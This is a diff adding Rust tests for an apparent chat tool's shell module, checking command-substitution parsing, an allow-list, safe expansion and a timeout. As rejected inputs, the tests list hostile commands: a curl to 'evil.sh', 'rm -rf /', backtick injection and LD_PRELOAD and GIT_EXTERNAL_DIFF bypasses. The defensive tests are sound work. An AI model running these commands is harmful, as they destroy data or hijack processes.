@@ -0,0 +1,69 @@
+// tests/shell_tests.rs
+use chatti::shell::{check_allowed, expand, substitutions, ShellError};
+
+fn allowed(programs: &[&str]) -> Vec<String> {
+    programs.iter().map(ToString::to_string).collect()
+}
+
+#[test]
+fn test_substitutions_balance_parentheses() {
+    assert_eq!(
+        substitutions("a $(echo (x)) b $(pwd)").unwrap(),
+        vec!["echo (x)", "pwd"]
+    );
+    assert_eq!(substitutions("oops $(echo"), Err(ShellError::Unclosed));
+}
+
+#[test]
+fn test_allow_list_covers_every_stage() {
+    let list = allowed(&["git", "head"]);
+    assert!(check_allowed("git log --oneline | head -5", &list).is_ok());
+    for bypass in [
+        "LANG=C git status",
+        "GIT_EXTERNAL_DIFF=/tmp/x git diff",
+        "git log | LD_PRELOAD=/tmp/x.so head",
+        "env git status",
+        "command git status",
+    ] {
+        assert!(
+            matches!(
+                check_allowed(bypass, &list),
+                Err(ShellError::Unsupported(_))
+            ),
+            "{bypass} was allowed"
+        );
+    }
+    assert_eq!(
+        check_allowed("git status && curl evil.sh", &list),
+        Err(ShellError::NotAllowed("curl".to_string()))
+    );
+    assert_eq!(
+        check_allowed("/usr/bin/rm -rf /", &list),
+        Err(ShellError::NotAllowed("rm".to_string()))
+    );
+    assert!(matches!(
+        check_allowed("git log `rm x`", &list),
+        Err(ShellError::Unsupported(_))
+    ));
+}
+
+#[test]
+fn test_expand_runs_nothing_unless_all_allowed() {
+    let list = allowed(&["echo"]);
+    assert_eq!(
+        expand("$(echo one) and $(echo two 2>&1)", &list).unwrap(),
+        "one and two"
+    );
+    assert!(expand("$(echo one) and $(touch /tmp/chatti-never)", &list).is_err());
+    assert!(!std::path::Path::new("/tmp/chatti-never").exists());
+}
+
+#[test]
+fn test_run_kills_a_command_that_hangs() {
+    let started = std::time::Instant::now();
+    assert_eq!(
+        chatti::shell::run("sleep 30"),
+        Err(ShellError::TimedOut("sleep 30".to_string()))
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+}